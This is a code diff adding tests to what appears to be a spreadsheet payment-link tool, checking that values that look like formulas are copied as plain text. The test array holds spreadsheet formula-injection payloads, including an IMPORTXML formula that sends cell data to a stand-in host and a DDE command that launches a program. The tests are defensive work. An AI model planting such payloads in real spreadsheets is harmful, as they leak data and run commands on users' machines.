@@ -65,3 +65,29 @@ describe('ids that would change a URL', () => {
     expect(world.sim.requests.slice(before).map((r) => r.method + ' ' + r.path.replace(/[0-9a-f-]{36}/, '{id}'))).toEqual(['POST /hl/v2/payments/{id}/close']);
   });
 });
+
+describe('text copied into another sheet stays text', () => {
+  const EVIL = ['=IMPORTXML("https://evil.example/?"&A2,"//a")', "+cmd|' /C calc'!A0", '@SUM(1)'];
+
+  it('Bill again next period copies a name that reads like a formula as text', () => {
+    const world = new World({
+      rows: [['Name', 'Amount', 'Description', 'Expires At'], ...EVIL.map((name) => [`'${name}`, '150000', 'SPP Desember 2026', '2026-12-31'])],
+    });
+    expect(world.column('Name')).toEqual(EVIL);
+    world.run('billNextPeriod');
+    const sheet = 'January 2027';
+    expect(world.column('Name', sheet)).toEqual(EVIL);
+    expect(world.runtime.spreadsheet.formulas(sheet).flat().filter(Boolean)).toEqual([]);
+  });
+
+  it('the summary names a sheet that reads like a formula as text', () => {
+    const world = new World({ rows: [HEADER, ['Budi', '250000', '', '', 'Katering', '']] });
+    world.run('createPaymentLinks');
+    world.runtime.spreadsheet.sheet(SHEET).name = EVIL[0] ?? '';
+    world.run('refreshPaymentStatus');
+    world.driveToEnd();
+    const summary = world.runtime.spreadsheet.sheets.find((s) => /Summary|Ringkasan/.test(s.name))?.name ?? '';
+    expect(world.values(summary).flat()).toContain(EVIL[0]);
+    expect(world.runtime.spreadsheet.formulas(summary).flat().filter(Boolean)).toEqual([]);
+  });
+});
